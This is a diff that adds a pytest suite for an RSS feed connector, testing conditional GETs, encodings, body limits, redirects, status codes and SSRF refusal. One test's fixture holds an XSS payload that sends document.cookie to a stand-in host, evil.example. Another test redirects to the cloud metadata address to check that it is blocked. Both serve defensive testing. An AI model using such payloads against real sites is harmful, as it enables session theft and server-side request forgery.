@@ -1,0 +1,223 @@
+"""The feed connector against a loopback server: conditional GETs, limits, redirects, odd feeds."""
+
+from __future__ import annotations
+
+from datetime import datetime, timezone
+
+import pytest
+
+from connectors.base import Cursor, FatalError, GoneError, RetriableError, SourceRef
+from connectors.feeds import FeedConnector, normalise_link
+from connectors.http import HttpClient, HttpLimits
+from connectors.safety import UnsafeURLError
+from fakes.feeds import FeedServer, Item, Route, rss, sample_items
+
+FAST = HttpLimits(connect_timeout=2, read_timeout=0.5, total_timeout=5, max_body_bytes=5 * 1024 * 1024, max_redirects=3)
+
+
+@pytest.fixture
+def server():
+    with FeedServer() as running:
+        yield running
+
+
+@pytest.fixture
+def connector():
+    return FeedConnector(HttpClient(allow_private=True, limits=FAST))
+
+
+def read(connector, url, cursor=None):
+    return connector.fetch(SourceRef("rss", url, url), cursor or Cursor(url=url))
+
+
+def test_well_formed_feed_gives_plain_records_and_validators(server, connector):
+    url = server.add("/feed.xml", Route(body=rss(sample_items("acme", 3))))
+    result = read(connector, url)
+    assert [r.external_id for r in result.records] == ["acme-0", "acme-1", "acme-2"]
+    first = result.records[0]
+    assert first.title == "acme post 0"
+    assert first.text == "Post 0 of acme."
+    assert first.url == "https://blog.example/acme/0"
+    assert first.published_at == datetime(2026, 11, 20, 12, tzinfo=timezone.utc)
+    assert result.cursor.etag and result.cursor.last_modified
+    assert not result.not_modified and result.warning is None
+
+
+def test_conditional_get_answers_304_without_a_body_or_parsing(server, connector):
+    url = server.add("/feed.xml", Route(body=rss(sample_items("acme", 3))))
+    first = read(connector, url)
+    sent_before = server.body_bytes["/feed.xml"]
+    second = read(connector, url, first.cursor)
+    assert second.not_modified and second.records == []
+    assert second.cursor == first.cursor
+    assert server.body_bytes["/feed.xml"] == sent_before
+
+
+def test_last_modified_alone_is_enough_for_a_304(server, connector):
+    url = server.add("/feed.xml", Route(body=rss(sample_items("acme", 1))))
+    first = read(connector, url)
+    result = read(connector, url, Cursor(url=url, last_modified=first.cursor.last_modified))
+    assert result.not_modified
+
+
+def test_ill_formed_feed_keeps_what_is_recovered_and_warns(server, connector):
+    body = rss(sample_items("acme", 2)).replace(b"</channel></rss>", b"<item><title>broken & unclosed</title>")
+    url = server.add("/broken.xml", Route(body=body))
+    result = read(connector, url)
+    assert {"acme-0", "acme-1"} <= {r.external_id for r in result.records}
+    assert result.warning and result.warning.startswith("ill-formed feed")
+
+
+@pytest.mark.parametrize(
+    "body, content_type",
+    [
+        pytest.param(b"<html><body><h1>Welcome</h1></body></html>", "text/html", id="html-page"),
+        pytest.param(b"\x00\x01\x02 not xml at all <<<", "application/octet-stream", id="garbage"),
+    ],
+)
+def test_a_feed_with_no_usable_entries_is_an_error(server, connector, body, content_type):
+    url = server.add("/nothing", Route(body=body, content_type=content_type))
+    with pytest.raises(FatalError, match="not a readable feed"):
+        read(connector, url)
+
+
+@pytest.mark.parametrize(
+    "encoding, declare",
+    [
+        pytest.param("windows-1252", None, id="windows-1252"),
+        pytest.param("iso-8859-1", None, id="iso-8859-1"),
+        pytest.param("utf-16", None, id="utf-16"),
+    ],
+)
+def test_odd_encodings_decode_to_the_right_characters(server, connector, encoding, declare):
+    title = "Café naïve Ærø" + (" – “quoted”" if encoding == "windows-1252" else "")
+    body = rss([Item(title=title, guid="g1", description="déjà vu")], encoding=encoding, declare=declare)
+    url = server.add("/enc.xml", Route(body=body, content_type="application/rss+xml"))
+    record = read(connector, url).records[0]
+    assert record.title == title
+    assert record.text == "déjà vu"
+
+
+def test_xss_laden_entries_become_harmless_plain_text(server, connector):
+    description = (
+        '<script>document.location="https://evil.example/?c="+document.cookie</script>'
+        '<p onclick="steal()">Real <img src=x onerror=alert(1)>news</p><style>body{display:none}</style>'
+        '<iframe src="https://evil.example"></iframe>'
+    )
+    items = [Item(title="<b>Bold</b> &amp; <script>x()</script>title", link="javascript:alert(1)", guid="x1", description=description)]
+    url = server.add("/xss.xml", Route(body=rss(items)))
+    record = read(connector, url).records[0]
+    assert record.text == "Real news"
+    assert "script" not in record.title and "x()" not in record.title
+    assert record.url is None  # javascript: links are never kept
+
+
+@pytest.mark.parametrize(
+    "route",
+    [
+        pytest.param(Route(huge_bytes=6 * 1024 * 1024), id="streamed-without-length"),
+        pytest.param(Route(body=b"<rss>" + b" " * (5 * 1024 * 1024 + 10) + b"</rss>"), id="declared-length"),
+    ],
+)
+def test_bodies_over_the_limit_are_refused(server, connector, route):
+    url = server.add("/huge.xml", route)
+    with pytest.raises(FatalError, match="byte limit"):
+        read(connector, url)
+
+
+def test_a_slow_server_times_out_as_retriable(server, connector):
+    url = server.add("/slow.xml", Route(body=rss(sample_items("s", 1)), delay=2.0))
+    with pytest.raises(RetriableError, match="timed out"):
+        read(connector, url)
+
+
+def test_permanent_redirect_moves_the_stored_url(server, connector):
+    target = server.add("/new.xml", Route(body=rss(sample_items("moved", 1))))
+    old = server.add("/old.xml", Route(status=301, location="/new.xml"))
+    result = read(connector, old)
+    assert result.cursor.url == target
+    assert result.records[0].external_id == "moved-0"
+
+
+def test_temporary_redirect_keeps_the_stored_url(server, connector):
+    server.add("/today.xml", Route(body=rss(sample_items("t", 1))))
+    url = server.add("/feed.xml", Route(status=302, location="/today.xml"))
+    result = read(connector, url)
+    assert result.cursor.url == url
+    assert len(result.records) == 1
+
+
+def test_a_permanent_hop_after_a_temporary_one_does_not_move_the_url(server, connector):
+    server.add("/final.xml", Route(body=rss(sample_items("f", 1))))
+    server.add("/middle.xml", Route(status=301, location="/final.xml"))
+    url = server.add("/start.xml", Route(status=307, location="/middle.xml"))
+    assert read(connector, url).cursor.url == url
+
+
+def test_redirect_loops_stop(server, connector):
+    url = server.add("/a", Route(status=302, location="/b"))
+    server.add("/b", Route(status=302, location="/a"))
+    with pytest.raises(FatalError, match="more than 3 redirects"):
+        read(connector, url)
+
+
+def test_a_redirect_to_a_private_address_is_refused_before_any_request(server):
+    # The loopback test server stands in for a public host: the resolver calls 127.0.0.1 public
+    # and answers every other host with the literal address itself, so no DNS and no traffic.
+    def resolver(host, port):
+        return ["93.184.216.34"] if host == "127.0.0.1" else [host]
+
+    connector = FeedConnector(HttpClient(allow_private=False, limits=FAST, resolver=resolver))
+    url = server.add("/evil.xml", Route(status=302, location="http://169.254.169.254/latest/meta-data/"))
+    with pytest.raises(UnsafeURLError, match="link-local"):
+        read(connector, url)
+    assert server.hits["/evil.xml"] == 1
+
+
+def test_a_loopback_feed_is_refused_unless_private_networks_are_allowed(server):
+    url = server.add("/feed.xml", Route(body=rss(sample_items("a", 1))))
+    with pytest.raises(UnsafeURLError, match="loopback"):
+        read(FeedConnector(HttpClient(allow_private=False, limits=FAST)), url)
+    assert server.hits["/feed.xml"] == 0
+
+
+@pytest.mark.parametrize(
+    "status, error, words",
+    [
+        pytest.param(401, FatalError, "asks for a login", id="401"),
+        pytest.param(403, FatalError, "refuses us", id="403"),
+        pytest.param(404, FatalError, "no feed at this address", id="404"),
+        pytest.param(410, GoneError, "removed it for good", id="410"),
+        pytest.param(400, FatalError, "HTTP 400", id="400"),
+        pytest.param(500, RetriableError, "server error", id="500"),
+        pytest.param(503, RetriableError, "server error", id="503"),
+    ],
+)
+def test_statuses_are_classified_with_a_human_message(server, connector, status, error, words):
+    url = server.add("/status", Route(status=status))
+    with pytest.raises(error, match=words):
+        read(connector, url)
+
+
+def test_429_honours_retry_after(server, connector):
+    url = server.add("/busy", Route(status=429, headers={"Retry-After": "120"}))
+    with pytest.raises(RetriableError) as raised:
+        read(connector, url)
+    assert raised.value.retry_after == 120
+    assert "rate limited" in raised.value.message
+
+
+def test_identity_falls_back_to_the_normalised_link_then_a_hash(server, connector):
+    items = [
+        Item(title="linked", link="HTTPS://Blog.Example:443/post?utm_source=x&id=3#top"),
+        Item(title="bare", description="no link, no guid"),
+        Item(title="bare", description="no link, no guid"),
+    ]
+    url = server.add("/ids.xml", Route(body=rss(items)))
+    ids = [r.external_id for r in read(connector, url).records]
+    assert ids[0] == "https://blog.example/post?id=3"
+    assert ids[1].startswith("sha256:") and ids[1] == ids[2]
+
+
+def test_normalise_link_keeps_meaningful_parts():
+    assert normalise_link("http://Example.com:8080/a/b?x=1") == "http://example.com:8080/a/b?x=1"
